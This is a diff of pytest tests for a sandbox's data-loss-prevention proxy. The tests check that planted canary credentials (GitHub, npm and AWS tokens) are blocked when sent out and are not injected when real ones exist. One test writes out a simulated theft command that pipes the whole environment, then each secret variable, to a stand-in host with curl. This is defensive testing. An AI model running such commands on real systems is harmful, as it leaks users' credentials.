@@ -102,6 +102,55 @@ def test_a_question_in_base64_is_no_credential(net_host: Host, net: Internet) ->
     assert not answer.told("gatekeeper.credential_found") and "451" not in answer.stdout, answer
 
 
+CANARIES = (
+    "PYSANDBOX_CANARY_GITHUB_PAT", "PYSANDBOX_CANARY_NPM_TOKEN", "PYSANDBOX_CANARY_AWS_ACCESS_KEY", "AWS_ACCESS_KEY_ID",
+    "AWS_SECRET_ACCESS_KEY",
+)  # fmt: skip
+
+
+def test_a_thief_finds_false_credentials_and_gets_none_out(net_host: Host, net: Internet) -> None:
+    """What he collects is all of his variables, as most do; then each of them alone."""
+    before = len(net.requests("origin"))
+    thief = f"env | {CURL} --data-binary @- https://origin.example/; "
+    thief += "".join(f'{CURL} "https://origin.example/?k=${each}"; ' for each in CANARIES)
+    answer = net_host.run(
+        ["sh", "-c", f"{thief} printenv {' '.join(CANARIES)}"], env=NO_CA, proxy_upstream_ca=[net.ca],
+        hosts=["origin.example"], dlp_enabled=True,
+    )  # fmt: skip
+    lines = answer.stdout.splitlines()
+    assert lines[1:6] == [
+        "451 canary_github_pat", "451 canary_npm_token", "451 canary_aws_access_key", "451 canary_aws_access_key_id",
+        "451 canary_aws_secret_access_key",
+    ] and lines[0].startswith("451 canary_"), answer  # fmt: skip
+    assert len({*lines[6:]}) == 5 and {each["rule"] for each in answer.denials} == {
+        "dlp." + each.removeprefix("451 ") for each in lines[1:6]
+    }
+    sent = net.requests("origin")[before:]
+    assert not [each for each in sent if any(value[4:] in each for value in lines[6:])]
+    assert not [value for value in lines[6:] if value in str(answer.events)]
+
+
+@pytest.mark.parametrize(
+    ("more", "given", "left"),
+    [
+        ({"dlp_enabled": True, "dlp_canary_tokens": False}, {}, []),
+        ({}, {}, []),
+        ({"dlp_enabled": True}, {"AWS_PROFILE": "own"}, list(CANARIES[:3])),
+        ({"dlp_enabled": True, "env_passthrough": ["AWS_REGION"]}, {}, list(CANARIES[:3])),
+        ({"dlp_enabled": True}, {"PYSANDBOX_CANARY_NPM_TOKEN": "mine"}, [CANARIES[0], *CANARIES[2:]]),
+    ],
+)
+def test_who_has_real_ones_or_says_no_gets_no_false_ones(
+    more: dict[str, object], given: dict[str, str], left: list[str], net_host: Host, net: Internet
+) -> None:
+    answer = net_host.run(
+        ["env"], env={**NO_CA, **given}, hosts=["origin.example"], proxy_upstream_ca=[net.ca] if more else [], **more
+    )
+    said = dict(line.partition("=")[::2] for line in answer.stdout.splitlines())
+    assert [each for each in CANARIES if each in said and said[each] != given.get(each)] == left
+    assert all(said[name] == value for name, value in given.items())
+
+
 DATA = f"""{sys.executable} -c 'import base64, os; print(base64.b64encode(os.urandom(9000)).decode())' > f"""
 SENT = "curl -sS -o /dev/null -w '%{http_code} %header{x-pysandbox-dlp-reason}\\n' --data-binary @f https://origin.example/"
 
